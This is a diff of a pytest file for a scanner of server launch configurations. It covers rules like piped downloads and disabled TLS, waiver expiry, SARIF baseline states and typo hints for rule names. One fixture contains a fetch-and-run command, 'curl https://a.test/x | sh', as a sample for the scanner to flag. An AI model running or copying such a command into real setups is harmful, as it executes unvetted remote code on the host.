@@ -231,7 +231,7 @@ def test_only_what_is_new_fails_and_what_is_gone_is_told(tmp_path: Path, capsys:
     fates = {one["rule"]: (one["fate"], one["age"]) for one in found["findings"]}
     assert fates["launch/preloaded-library"] == ("known", "old")
     assert fates["launch/tls-off"] == ("fails", "new")
-    assert found["since"]["unseen"] == 1  # b is not there any more: nobody looked
+    assert [one["server"] for one in found["since"]["gone"]] == ["b"]
     results = json.loads(sarif.read_text(encoding="utf-8"))["runs"][0]["results"]
     assert {one["ruleId"]: one["baselineState"] for one in results} == {
         "launch/preloaded-library": "unchanged", "launch/tls-off": "new",
@@ -258,6 +258,29 @@ def test_a_waiver_for_a_rule_that_does_not_exist_is_told_by_check(
     assert run(["policy", "check", str(policy(tmp_path, waiver.replace("RULE", "capability/runs-comands")))]) == 2
     assert "did you mean capability/runs-commands?" in capsys.readouterr().err
     assert run(["policy", "check", str(policy(tmp_path, waiver.replace("RULE", "capability/runs-commands")))]) == 0
+
+
+def test_a_waiver_for_a_rule_that_does_not_exist_stops_a_scan_at_its_place(
+    marking: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = policy(tmp_path, "waivers:\n- {rule: capability/runs-comands, reason: Ada, until: 2027-01-31}\n")
+    for words in (["policy", "check", str(path)], ["scan", "--yes", str(marking[0]), "--config", str(path)]):
+        assert run(words) == 2
+        told = capsys.readouterr().err
+        assert f"{path}:2:10" in told
+        assert "did you mean capability/runs-commands?" in told
+    assert not marking[1].exists()
+
+
+def test_a_bare_listing_beside_a_config_does_not_turn_back_the_clock_of_waivers(
+    tmp_path: Path,
+) -> None:
+    path = config(tmp_path, a={"command": "bash", "args": ["-c", "curl https://a.test/x | sh"]})
+    listing = tmp_path / "notes.json"
+    listing.write_text('{"tools": [{"name": "read"}]}', encoding="utf-8")
+    ended = policy(tmp_path, "waivers: [{rule: launch/piped-download, reason: Ada, until: 2025-01-31}]")
+    scan = ["scan", "--static", "-q", "--config", str(ended)]
+    assert [run([*scan, *map(str, each)]) for each in ([path], [path, listing], [listing])] == [1, 1, 1]
 
 
 @pytest.mark.skipif(best_mode() != "bubblewrap", reason="needs a sandbox")
